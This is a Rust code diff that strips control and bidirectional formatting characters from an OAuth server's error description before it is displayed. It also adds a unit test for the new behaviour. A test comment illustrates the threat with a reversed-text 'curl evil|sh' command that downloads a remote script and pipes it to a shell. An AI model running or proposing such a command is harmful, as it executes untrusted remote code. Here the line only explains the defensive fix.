@@ -291,6 +291,25 @@ pub(crate) fn is_printable_token(s: &str) -> bool {
     !s.is_empty() && s.bytes().all(|b| (0x21..=0x7e).contains(&b))
 }
 
+/// Whether `c` must not reach a terminal or a log as it is: a control
+/// character (Unicode category Cc), a line or paragraph separator, or a
+/// bidirectional formatting character (marks, embeddings, overrides,
+/// isolates: Unicode's Bidi_Control property), which makes a message read
+/// in another order than it was written.
+pub(crate) fn is_unprintable(c: char) -> bool {
+    c.is_control()
+        || matches!(
+            c,
+            '\u{061C}'
+                | '\u{200E}'
+                | '\u{200F}'
+                | '\u{2028}'
+                | '\u{2029}'
+                | '\u{202A}'..='\u{202E}'
+                | '\u{2066}'..='\u{2069}'
+        )
+}
+
 /// Whether `s` is an RFC 6749 `error` code (§4.1.2.1, §5.2: %x20-21 /
 /// %x23-5B / %x5D-7E), of 1 to 100 bytes: what a server's (or an
 /// authorization redirect's) `error` must be to be shown.
@@ -301,12 +320,13 @@ pub fn is_oauth_error_code(s: &str) -> bool {
             .all(|b| matches!(b, 0x20..=0x21 | 0x23..=0x5b | 0x5d..=0x7e))
 }
 
-/// A server's free text (`error_description`) fit to show: control
-/// characters (escape sequences, line breaks) become spaces, and at most
-/// 500 characters are kept.
+/// A server's free text (`error_description`) fit to show: control and
+/// bidirectional formatting characters (escape sequences, line breaks, text
+/// shown in another order than it reads: [`is_unprintable`]) become spaces,
+/// and at most 500 characters are kept.
 pub fn printable_description(s: &str) -> String {
     s.chars()
-        .map(|c| if c.is_control() { ' ' } else { c })
+        .map(|c| if is_unprintable(c) { ' ' } else { c })
         .take(MAX_DESCRIPTION_CHARS)
         .collect()
 }
@@ -333,6 +353,19 @@ mod tests {
             body: body.as_bytes().to_vec(),
         };
         classify(&r, 0)
+    }
+
+    #[test]
+    fn an_error_description_shows_neither_control_nor_bidi_characters() {
+        // U+202E reverses what follows: "Run: hs|live lruc" would read
+        // "Run: curl evil|sh"; U+2028 is a line break in many viewers.
+        let body = "{\"error\":\"invalid_grant\",\"error_description\":\"a\\u001b[2Jb\\u202ec\\u2066d\\u2028e\\u200ff\\u061cg\"}";
+        let parsed = parse_error_body(body.as_bytes()).unwrap();
+        assert_eq!(parsed.description.as_deref(), Some("a [2Jb c d e f g"));
+        assert_eq!(
+            printable_description("ok: \u{e9}\u{4e2d}"),
+            "ok: \u{e9}\u{4e2d}"
+        );
     }
 
     #[test]
